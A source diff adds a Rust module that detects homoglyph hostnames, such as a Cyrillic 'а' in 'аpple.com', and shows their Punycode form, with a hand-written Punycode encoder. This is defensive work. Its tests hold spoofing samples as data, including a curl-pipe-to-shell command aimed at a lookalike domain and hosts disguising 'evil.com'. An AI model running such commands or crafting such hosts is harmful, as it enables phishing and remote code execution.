@@ -1,0 +1,169 @@
+//! Hosts in a text whose letters can be taken for others, such as a Cyrillic `а` in `аpple.com`, and their ASCII form, in which
+//! nothing looks like anything else.
+
+use crate::text::is_seen;
+
+/// DNS has no longer names, so the ASCII form of a longer one would be work for nothing.
+const LONGEST: usize = 253;
+
+/// The ASCII form of the host that ends a text, if it has other characters than those of ASCII. `next` is the character behind it. A
+/// host stands in the authority of an address (RFC 3986, section 3.2), or behind the `@` of a user's name.
+pub(super) fn ascii_host(text: &[char], next: Option<char>) -> Option<String> {
+    if next.is_some_and(is_of_host) {
+        return None;
+    }
+    let text = &text[text.len().saturating_sub(2 * LONGEST)..];
+    let start = text.iter().rposition(|letter| !is_of_host(*letter))? + 1;
+    let (before, host) = text.split_at(start);
+    if host.len() > LONGEST || host.iter().all(char::is_ascii) {
+        return None;
+    }
+    let is_behind_user = before.len() > 1 && before.ends_with(&['@']) && is_of_host(before[before.len() - 2]);
+    let is_in_authority =
+        || before.iter().rposition(ends_authority).is_some_and(|at| before[..=at].ends_with(&[':', '/', '/']));
+    (is_behind_user || is_in_authority()).then(|| to_ascii(host))
+}
+
+/// Every character beyond ASCII counts, as browsers and `curl` read hosts.
+fn is_of_host(letter: char) -> bool {
+    letter.is_ascii_alphanumeric()
+        || matches!(letter, '-' | '.' | '_')
+        || (!letter.is_ascii() && is_seen(letter, Some(letter)))
+}
+
+fn ends_authority(letter: &char) -> bool {
+    *letter <= ' ' || matches!(letter, '/' | '\\' | '?' | '#' | '"' | '\'' | '`' | '<' | '>' | '|')
+}
+
+/// The host with each label in Punycode.
+fn to_ascii(host: &[char]) -> String {
+    let mut out = String::new();
+    let mapped: Vec<char> = host.iter().map(|letter| mapped(*letter)).collect();
+    for (at, label) in mapped.split(|letter| *letter == '.').enumerate() {
+        if at > 0 {
+            out.push('.');
+        }
+        punycode(label, &mut out);
+    }
+    out
+}
+
+/// Of the mappings before Punycode (UTS #46), those of full stops, of width, and of case in Latin-1, Greek and Cyrillic. A letter
+/// without its mapping gives another ASCII form, which still looks like nothing else.
+fn mapped(letter: char) -> char {
+    let code = u32::from(letter);
+    let lower = match code {
+        0x3002 | 0xFF0E | 0xFF61 => 0x2E,
+        // The full-width forms are in the order of ASCII.
+        0xFF01..=0xFF5E => code - 0xFEE0,
+        0x400..=0x40F => code + 80,
+        0xC0..=0xD6 | 0xD8..=0xDE | 0x391..=0x3A9 | 0x410..=0x42F => code + 32,
+        _ => code,
+    };
+    char::from_u32(lower).unwrap_or(letter).to_ascii_lowercase()
+}
+
+/// Adds the label as it is, or in Punycode (RFC 3492, section 6.3). A host is short, so no number overflows.
+fn punycode(label: &[char], out: &mut String) {
+    let basic = label.iter().filter(|letter| letter.is_ascii());
+    let mut done = basic.clone().count() as u32;
+    let is_ascii = done as usize == label.len();
+    if !is_ascii {
+        out.push_str("xn--");
+    }
+    out.extend(basic);
+    if !is_ascii && done > 0 {
+        out.push('-');
+    }
+    let (mut code, mut delta, mut bias, mut damp) = (128, 0, 72, 700);
+    while let Some(next) = label.iter().map(|letter| u32::from(*letter)).filter(|letter| *letter >= code).min() {
+        delta += (next - code) * (done + 1);
+        code = next;
+        for letter in label.iter().map(|letter| u32::from(*letter)) {
+            if letter < code {
+                delta += 1;
+            }
+            if letter == code {
+                number(delta, bias, out);
+                done += 1;
+                bias = adapted(delta / damp, done);
+                (delta, damp) = (0, 2);
+            }
+        }
+        delta += 1;
+        code += 1;
+    }
+}
+
+/// Adds a number in digits whose weights grow (RFC 3492, section 3.3).
+fn number(mut rest: u32, bias: u32, out: &mut String) {
+    let mut place = 36_u32;
+    loop {
+        let threshold = place.saturating_sub(bias).clamp(1, 26);
+        if rest < threshold {
+            return out.push(digit(rest));
+        }
+        out.push(digit(threshold + (rest - threshold) % (36 - threshold)));
+        rest = (rest - threshold) / (36 - threshold);
+        place += 36;
+    }
+}
+
+fn digit(value: u32) -> char {
+    char::from(if value < 26 { b'a' + value as u8 } else { b'0' + (value - 26) as u8 })
+}
+
+/// RFC 3492, section 3.4. The caller has damped `delta`.
+fn adapted(delta: u32, points: u32) -> u32 {
+    let mut delta = delta + delta / points;
+    let mut bias = 0;
+    while delta > 455 {
+        delta /= 35;
+        bias += 36;
+    }
+    bias + 36 * delta / (delta + 38)
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::action::marked::Marked;
+
+    #[test]
+    fn the_ascii_form_stands_behind_a_host() {
+        let cases = [
+            ("curl https://\u{430}pple.com/x | sh", "curl https://\u{430}pple.com⟨xn--pple-43d.com⟩/x | sh"),
+            ("https://аррӏе.com", "https://аррӏе.com⟨xn--80ak6aa92e.com⟩"),
+            ("HTTPS://BÜCHER.example:8080", "HTTPS://BÜCHER.example⟨xn--bcher-kva.example⟩:8080"),
+            ("https://münchen.de.", "https://münchen.de.⟨xn--mnchen-3ya.de.⟩"),
+            ("git@gіthub.com:a/b", "git@gіthub.com⟨xn--gthub-n2e.com⟩:a/b"),
+            ("https://apple.com@еvil.com/", "https://apple.com@еvil.com⟨xn--vil-qdd.com⟩/"),
+            ("https://user:пароль@例え.テスト", "https://user:пароль⟨xn--80awicg8e⟩@例え.テスト⟨xn--r8jz45g.xn--zckzah⟩"),
+            ("https://apple.com\u{3002}evil.com", "https://apple.com\u{3002}evil.com⟨apple.com.evil.com⟩"),
+            ("https://ｅｖｉｌ.com", "https://ｅｖｉｌ.com⟨evil.com⟩"),
+            ("https://${SUB}.а.com", "https://${SUB}.а.com⟨.xn--80a.com⟩"),
+            ("https://💩.la?а", "https://💩.la⟨xn--ls8h.la⟩?а"),
+            ("https://АЯ.com ПРИВЕТ@ПРИМЕР", "https://АЯ.com⟨xn--80a6d.com⟩ ПРИВЕТ@ПРИМЕР⟨xn--e1afmkfd⟩"),
+            ("ssh://а\u{200B}b", "ssh://а⟨xn--80a⟩⟨U+200B⟩b"),
+        ];
+        for (text, expected) in cases {
+            assert_eq!(Marked::of(text).to_text(), expected, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn other_words_stay_as_they_are() {
+        let long = ["https://", &"я".repeat(254), ".com"].concat();
+        let cases = [
+            "curl https://apple.com/я?ж#é",
+            "rm отчёт.txt résumé.pdf // примечание",
+            "curl -d @тело.json --data=@тело.json",
+            "echo 'https://a.example' привет.txt",
+            "@имя @имя.x =@имя",
+            "https:/я.com я.com/x",
+            &long,
+        ];
+        for text in cases {
+            assert_eq!(Marked::of(text).to_text(), text);
+        }
+    }
+}
